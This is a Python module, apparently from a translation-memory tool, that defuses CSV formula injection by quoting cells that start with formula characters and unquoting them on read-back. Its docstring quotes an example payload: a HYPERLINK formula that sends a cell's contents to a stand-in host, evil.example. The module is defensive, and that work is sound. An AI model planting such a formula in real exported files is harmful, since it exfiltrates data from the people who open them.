"""Cells that a spreadsheet would run as formulas ("CSV injection"), made inert in the CSV files tm writes.

A memory's texts come from anywhere; a cell such as `=HYPERLINK("http://evil.example/?"&A1;"click")` or
`@SUM(...)` in an exported CSV is run by Excel, LibreOffice Calc or Google Sheets when the translator opens
the file. OWASP's rule: a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a single
quote in front, which spreadsheets take as a text marker and do not run.

So that tm's own CSV still round-trips, the quote is added also before a cell that already starts with
quotes followed by one of those characters (`'=x` is written `''=x`), and `from_spreadsheet` (used by the
CSV/TSV readers of memories and glossaries) takes exactly one quote off a cell that starts with quotes and
then one of those characters: every text comes back as it was. The quote is a visible change of the text, so
writers offer to keep cells raw, for a file read by a script rather than opened in a spreadsheet.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTS = "=+-@\t\r"
_GUARDED = re.compile(r"'*[=+\-@\t\r]")
_UNGUARD = re.compile(r"'+[=+\-@\t\r]")


def spreadsheet_safe(cell: str) -> str:
    """`cell` with a single quote in front when a spreadsheet would take it for a formula, else unchanged."""
    return "'" + cell if _GUARDED.match(cell) else cell


def spreadsheet_safe_row(cells: Iterable[str], raw: bool = False) -> list[str]:
    """Every cell of a row made safe (`raw`: unchanged, for files not meant for a spreadsheet)."""
    return list(cells) if raw else [spreadsheet_safe(cell) for cell in cells]


def from_spreadsheet(cell: str) -> str:
    """The text `spreadsheet_safe` was given (a cell written raw reads back unchanged, unless it starts with
    quotes followed by a formula character)."""
    return cell[1:] if _UNGUARD.match(cell) else cell
